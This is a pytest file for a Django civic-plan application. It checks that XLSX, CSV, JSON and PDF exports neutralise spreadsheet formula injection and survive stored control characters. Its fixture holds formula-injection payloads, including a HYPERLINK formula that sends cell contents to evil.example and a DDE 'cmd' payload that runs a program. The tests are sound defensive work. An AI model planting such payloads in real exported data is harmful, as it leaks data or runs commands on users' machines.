"""Plan exports with hostile text: XLSX cells hold text, never formulas; the CSV neutralises
formulas for spreadsheets and still imports back unchanged; stored control characters take no
export down (issue 12, items 6 and 8)."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from openhromada.plans import importer
from openhromada.plans.models import Commitment
from tests.factories.hostile import has_control, hostile, store_raw
from tests.plans.fixtures import make_commitment, make_milestone, move

pytestmark = pytest.mark.django_db
BASE = "/hromady/khmelnytska/plans/2025-2026/"
FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Натисніть")',
    "problem": "+cmd|' /C calc'!A0",
    "objective": "-2+3",
    "lead_body": "@SUM(1+1)",
    "how_it_solves": "\tTab first",
}


@pytest.fixture
def formula_plan(plan, official):
    commitment = make_commitment(official, plan, **FORMULAS)
    make_milestone(official, commitment, expected_output="=1+1", responsible_body="Управління")
    return move(plan, official, "co_creation")


def _xlsx(client):
    response = client.get(BASE + "export.xlsx")
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content)).worksheets[0]


def test_xlsx_writes_peoples_text_as_text_not_formulas(client, formula_plan):
    sheet = _xlsx(client)
    header = [c.value for c in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    for column, value in [
        ("commitment_title", FORMULAS["title"]),
        ("problem", FORMULAS["problem"]),
        ("objective", FORMULAS["objective"]),
        ("lead_body", FORMULAS["lead_body"]),
        ("expected_output", "=1+1"),
    ]:
        assert (row[column].value, row[column].data_type) == (value, "s")
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)


def test_csv_neutralises_formulas_and_imports_back_unchanged(client, formula_plan, official):
    text = client.get(BASE + "export.csv").content.decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["commitment_title"] == "'" + FORMULAS["title"]
    assert row["problem"] == "'" + FORMULAS["problem"]
    assert row["objective"] == "'-2+3" and row["lead_body"] == "'@SUM(1+1)"
    assert row["how_it_solves"] == "'\tTab first" and row["expected_output"] == "'=1+1"
    assert row["commitment_number"] == "1" and row["weight"] == "1"
    # the same file, imported into a fresh plan of another period, gives the same text back
    from openhromada.plans import services
    from tests.plans.fixtures import D

    other = services.plan_create(
        actor=official,
        hromada=formula_plan.hromada,
        title="Інший план",
        start_date=D(2025, 1, 1),
        end_date=D(2026, 12, 31),
        slug="2025-2026-b",
    )
    upload = SimpleUploadedFile("plan.csv", text.encode(), content_type="text/csv")
    result = importer.plan_import(actor=official, plan=other, rows=importer.read_rows(upload))
    assert not result.problems, result.problems
    imported = Commitment.objects.get(plan=other)
    assert imported.title == FORMULAS["title"] and imported.problem == FORMULAS["problem"]
    assert imported.lead_body == FORMULAS["lead_body"]
    assert imported.how_it_solves == FORMULAS["how_it_solves"]


@pytest.fixture
def hostile_plan(plan, official, commitment, milestone):
    """Old data saved before validation: control characters in every kind of exported text."""
    store_raw(commitment, title=hostile("Відкриті дані"), problem=hostile("Проблема"))
    store_raw(milestone, expected_output=hostile("Портал"))
    store_raw(plan, title=hostile("План дій"))
    return move(plan, official, "co_creation")


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json", "pdf"])
def test_stored_control_characters_take_no_export_down(client, hostile_plan, fmt):
    response = client.get(BASE + f"export.{fmt}")
    assert response.status_code == 200
    if fmt == "xlsx":
        workbook = load_workbook(io.BytesIO(response.content))
        title = workbook.worksheets[0]["B2"].value
        assert title.startswith("Відкр") and not has_control(title)
        assert not has_control(workbook["about"]["B1"].value)
    if fmt == "pdf":
        assert response.content.startswith(b"%PDF")
